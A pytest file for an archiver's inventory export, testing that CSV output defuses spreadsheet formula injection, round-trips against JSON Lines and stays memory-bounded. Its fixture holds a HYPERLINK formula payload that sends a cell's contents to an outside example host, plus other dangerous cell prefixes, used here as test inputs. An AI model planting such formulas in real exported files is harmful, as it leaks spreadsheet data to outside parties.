"""Every file has its row, no cell is a formula, and what was written can be read back."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from pathlib import Path

import pytest

from archiver.archive import Archive
from archiver.catalogue.rows import FileRow
from archiver.inventory import COLUMNS, archive_rows, bag_rows, inventory, safe_cell
from tests.audio.sounds import id3, id3_frame, mp3, title
from tests.cli.workbench import run
from tests.packaging import scene

FORMULA = '=HYPERLINK("http://example.org?x="&A1;"click")'


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    """Two bags, one of hostile names and tags."""
    made = scene.new_archive(tmp_path_factory.mktemp("a") / "archive")
    song = id3(title(FORMULA), id3_frame(b"TPE1", b"\3@ann"), id3_frame(b"TALB", b"\3'quoted"))
    files = {name: name.encode() for name in scene.HOSTILE_NAMES} | {"song.mp3": song + mp3()}
    for name, content in (("one", files), ("two", {"=2.txt": b"2"})):
        source = scene.make_source(tmp_path_factory.mktemp("s") / name, content)
        scene.run(made, source, bag_id=name)
    return made


def _read_back(data: bytes) -> list[dict[str, str]]:
    rows = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    return [{key: cell.removeprefix("'") for key, cell in row.items()} for row in rows]


def test_csv_read_back_is_what_json_lines_say(archive: Archive) -> None:
    rows = list(archive_rows(archive))
    lines = b"".join(inventory(rows, "jsonl")).splitlines()
    assert [json.loads(line) for line in lines] == rows
    back = _read_back(b"".join(inventory(rows, "csv")))
    assert back == [
        {key: "" if value is None else str(value) for key, value in row.items()} for row in rows
    ]
    assert {row["path"] for row in back if row["bag"] == "one"} == {
        f"data/{name}" for name in (*scene.HOSTILE_NAMES, "song.mp3")
    }


def test_no_cell_is_a_formula(archive: Archive) -> None:
    data = b"".join(inventory(archive_rows(archive), "csv")).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    assert f"'{FORMULA}" in cells and "'@ann" in cells and "''quoted" in cells
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx", "\nx", "＝1", "'x", "''"])
def test_what_begins_dangerously_is_defused_and_comes_back(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert safe_cell(text).removeprefix("'") == text


def test_a_bag_far_from_its_archive_has_an_inventory_too(archive: Archive) -> None:
    (row,) = bag_rows("two", str(archive.bag_path("two")))
    assert tuple(row) == COLUMNS
    assert (row["path"], row["size"], row["format"]) == ("data/=2.txt", 1, None)


def test_memory_does_not_grow_with_the_rows() -> None:
    file = FileRow(1, "data/" + "x" * 200, 1, 1, bytes(32))

    def peak(count: int) -> int:
        row = dict.fromkeys(COLUMNS, file.path)
        tracemalloc.start()
        for _ in inventory((row for _ in range(count)), "csv"):
            pass
        found = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return found

    assert peak(6000) < 1.5 * peak(2000)


def test_the_command_writes_the_archive_or_a_bag(archive: Archive, tmp_path: Path) -> None:
    done = run("inventory", "--jsonl", "-o", tmp_path / "x", "-a", archive.root, "--json")
    assert done.code == 0
    lines = (tmp_path / "x").read_text("ascii").splitlines()
    assert len(lines) == len(scene.HOSTILE_NAMES) + 2
    done = run("inventory", "two", "--csv", "-a", archive.root)
    assert (done.code, done.out.splitlines()[0]) == (0, ",".join(COLUMNS))
    assert "'=2" not in done.out and "data/=2.txt" in done.out
    assert run("inventory", "-a", archive.root).code == 2
